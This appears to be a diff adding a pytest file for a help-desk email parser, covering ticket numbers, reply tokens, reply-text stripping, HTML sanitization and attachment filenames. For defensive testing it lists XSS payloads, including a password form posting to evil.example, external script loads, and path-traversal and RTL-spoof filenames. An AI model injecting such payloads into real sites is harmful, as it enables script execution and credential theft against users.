@@ -1,0 +1,255 @@
+"""The parsing helpers: ticket numbers, reply tokens, reply text, HTML, attachment names."""
+
+import pytest
+
+from tickets.email.parsing import (
+    content_type_for,
+    extract_reply_text,
+    extract_reply_token,
+    extract_ticket_number_candidates,
+    html_to_text,
+    parse_message,
+    sanitize_filename,
+    sanitize_html,
+)
+
+from .conftest import CORPUS
+
+
+def _parse_corpus(name: str):
+    return parse_message((CORPUS / name).read_bytes())
+
+
+# --------------------------------------------------------------------------
+# Ticket numbers and reply tokens
+# --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("subject", "expected"),
+    [
+        ("Re: [SUP-2026-00000042] Printer", ["SUP-2026-00000042"]),
+        ("re: [sup-2026-00000042] printer", ["SUP-2026-00000042"]),
+        ("AW: WG: SUP-2026-00000042 still open", ["SUP-2026-00000042"]),
+        ("[ #HD-17 ] login", ["HD-17"]),
+        ("Ticket [IT-2025-0007-EU] and HD-5", ["IT-2025-0007-EU", "HD-5"]),
+        ("Fwd: [SUP-2026-1] dup SUP-2026-1", ["SUP-2026-1"]),
+        ("Printer broken", []),
+        ("Order 2026-00000042", []),
+        ("", []),
+    ],
+)
+def test_ticket_number_candidates_are_found_bracketed_first_and_uppercased(subject, expected):
+    assert extract_ticket_number_candidates(subject) == expected
+
+
+@pytest.mark.parametrize(
+    ("addresses", "expected"),
+    [
+        (["support+Tk7f3Q9x_Lm-2aB@acme.example"], "Tk7f3Q9x_Lm-2aB"),
+        (["ACME <support+abcdefgh@acme.example>"], "abcdefgh"),
+        (["a@x.example, ACME <support+abcdefgh12@acme.example>"], "abcdefgh12"),
+        (["other@x.example", "support+token_123@acme.example"], "token_123"),
+        (["support+short@acme.example"], None),
+        (["support+bad.token.here@acme.example"], None),
+        (["support+" + "a" * 65 + "@acme.example"], None),
+        (["support@acme.example"], None),
+        ([], None),
+    ],
+)
+def test_reply_token_comes_from_the_plus_address(addresses, expected):
+    assert extract_reply_token(addresses) == expected
+
+
+def test_reply_token_keeps_its_case_when_read_from_the_raw_header():
+    parsed = _parse_corpus("32_plus_address_reply_token.eml")
+
+    assert extract_reply_token([parsed.headers["To"]]) == "Tk7f3Q9x_Lm-2aB"
+
+
+# --------------------------------------------------------------------------
+# Reply extraction
+# --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Fixed, thanks.\n\nOn Mon, 2 Mar 2026, Support wrote:\n> old", "Fixed, thanks."),
+        ("Works.\n-----Original Message-----\nFrom: a\nSent: b\n\nold", "Works."),
+        ("Works.\n\nFrom: Support <s@x>\nSent: Monday\nTo: me\nSubject: hi\n\nold", "Works."),
+        ("Answer\n> quoted line\n> another", "Answer"),
+        ("Steps:\n- one\n- two\n\n-- \nSig", "Steps:\n- one\n- two"),
+        ("Hi,\nThanks, that fixed the login. But the printer still fails.", None),
+        ("  indented code\n    deeper\n", "  indented code\n    deeper"),
+        ("> only a quote", "> only a quote"),
+        ("", ""),
+    ],
+)
+def test_reply_text_strips_quotes_and_signatures(text, expected):
+    assert extract_reply_text(text) == (text if expected is None else expected)
+
+
+def test_reply_text_falls_back_to_text_when_everything_is_quoted():
+    text = "On Mon, 2 Mar 2026, Support wrote:\n> everything quoted"
+
+    assert extract_reply_text(text) == text
+
+
+def test_reply_text_keeps_long_lines_whole_when_cutting_history():
+    long_line = "word " * 400
+    text = f"{long_line}\n\nOn Mon, 2 Mar 2026, Support wrote:\n> old"
+
+    assert extract_reply_text(text) == long_line.rstrip()
+
+
+# --------------------------------------------------------------------------
+# HTML
+# --------------------------------------------------------------------------
+
+
+def test_html_to_text_renders_blocks_lists_links_and_quotes():
+    html = (
+        "<html><head><title>T</title><style>p{}</style></head><body>"
+        "<p>Hello&nbsp;<b>world</b></p><p>a &lt;tag&gt;<br>next</p>"
+        "<ul><li>one</li><li>two</li></ul><pre>  code\n    indented</pre>"
+        '<a href="https://x.example/">link</a><blockquote>quoted</blockquote>'
+        "<script>alert(1)</script></body></html>"
+    )
+
+    assert html_to_text(html) == (
+        "Hello world\n\na <tag>\nnext\n\n- one\n- two\n\n  code\n    indented\n\n"
+        "link (https://x.example/)\n\n> quoted"
+    )
+
+
+@pytest.mark.parametrize(
+    "html",
+    ["", "<", "<p", "</div></div>", "<style>unclosed", "<a href='x'>unclosed", "&#xffffffff;"],
+)
+def test_html_to_text_survives_broken_markup(html):
+    assert isinstance(html_to_text(html), str)
+
+
+XSS_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="javascript:alert(1)">',
+    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" javascript:alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<iframe src="https://evil.example/"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="evil.swf"></object>',
+    '<embed src="evil.swf">',
+    "<body onload=alert(1)>",
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<div style="position:fixed;top:0;left:0">overlay</div>',
+    "<style>@import 'https://evil.example/x.css';</style>",
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/">',
+    '<form action="https://evil.example/"><input name="pw"><button>go</button></form>',
+    '<p onmouseover="alert(1)">hover</p>',
+    "<!--<img src=x onerror=alert(1)>-->",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<template><script>alert(1)</script></template>",
+    '<img src="https://x.example/a.png" srcset="javascript:alert(1)">',
+    '<a href="https://x.example/" target="_blank" rel="opener">x</a>',
+    '<a href="/desk/tickets/1/delete">relative</a>',
+]
+FORBIDDEN_IN_SANITIZED = [
+    "<script", "javascript:", "vbscript:", "data:", "onerror", "onload", "onmouseover",
+    "<iframe", "<object", "<embed", "<svg", "<math", "<style", "<link", "<meta", "<base",
+    "<form", "<input", "position", "url(", "srcset", "target=", "opener\"", "/desk/",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("payload", XSS_PAYLOADS)
+def test_sanitize_html_removes_active_content(payload):
+    cleaned = sanitize_html(payload).lower()
+
+    assert not [bad for bad in FORBIDDEN_IN_SANITIZED if bad in cleaned]
+
+
+@pytest.mark.parametrize(
+    ("html", "expected"),
+    [
+        ("<p>Hi <b>bold</b> <i>it</i></p>", "<p>Hi <b>bold</b> <i>it</i></p>"),
+        (
+            '<a href="https://x.example/">x</a>',
+            '<a href="https://x.example/" rel="noopener noreferrer">x</a>',
+        ),
+        (
+            '<a href="mailto:a@x.example">m</a>',
+            '<a href="mailto:a@x.example" rel="noopener noreferrer">m</a>',
+        ),
+        ('<img src="cid:logo@x" alt="logo">', '<img src="cid:logo@x" alt="logo">'),
+        ('<img src="https://x.example/a.png">', '<img src="https://x.example/a.png">'),
+        ('<a href="cid:logo@x">x</a>', '<a rel="noopener noreferrer">x</a>'),
+        ('<span style="color: red; position: fixed">t</span>', '<span style="color:red">t</span>'),
+        ("<table><tr><td colspan=2>c</td></tr></table>", None),
+        ("<blockquote>q</blockquote><pre>p</pre><ul><li>l</li></ul>", None),
+    ],
+)
+def test_sanitize_html_keeps_basic_formatting_links_and_images(html, expected):
+    cleaned = sanitize_html(html)
+
+    if expected is None:
+        assert cleaned.replace("<tbody>", "").replace("</tbody>", "") == html.replace("=2", '="2"')
+    else:
+        assert cleaned == expected
+
+
+def test_sanitize_html_renders_pathologically_nested_markup_as_escaped_text():
+    cleaned = sanitize_html("<div>" * 5000 + "<script>alert(1)</script>deep &amp; <i>x</i>")
+
+    assert cleaned == "<pre>deep &amp; x</pre>"
+
+
+# --------------------------------------------------------------------------
+# Attachment names and types
+# --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [
+        ("report.pdf", "report.pdf"),
+        ("../../etc/passwd", "passwd"),
+        ("C:\\Users\\me\\invoice.pdf", "invoice.pdf"),
+        ("\u202efdp.exe", "fdp.exe"),
+        ("line\r\nbreak.txt", "linebreak.txt"),
+        ('a<b>c:d"e|f?g*h.txt', "a_b_c_d_e_f_g_h.txt"),
+        ("..", "attachment-3.png"),
+        ("   ", "attachment-3.png"),
+        (None, "attachment-3.png"),
+        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
+    ],
+)
+def test_sanitize_filename_strips_paths_and_control_characters(name, expected):
+    assert sanitize_filename(name, index=3, content_type="image/png") == expected
+
+
+@pytest.mark.parametrize(
+    ("content", "declared", "filename", "expected"),
+    [
+        (b"%PDF-1.4\n", "application/octet-stream", "a.bin", "application/pdf"),
+        (b"\x89PNG\r\n\x1a\n" + b"\0" * 16, "image/jpeg", "a.jpg", "image/png"),
+        (b"BM is how this text starts", "text/plain", "a.txt", "text/plain"),
+        (b"plain words", "text/plain", "a.txt", "text/plain"),
+        (b"PK\x03\x04" + b"\0" * 30, "application/zip", "a.zip", "application/zip"),
+        (b"PK\x03\x04" + b"\0" * 30, "application/octet-stream", None, "application/zip"),
+        (b"", "", None, "application/octet-stream"),
+    ],
+)
+def test_content_type_is_sniffed_when_puremagic_is_sure(content, declared, filename, expected):
+    assert content_type_for(content, declared=declared, filename=filename) == expected
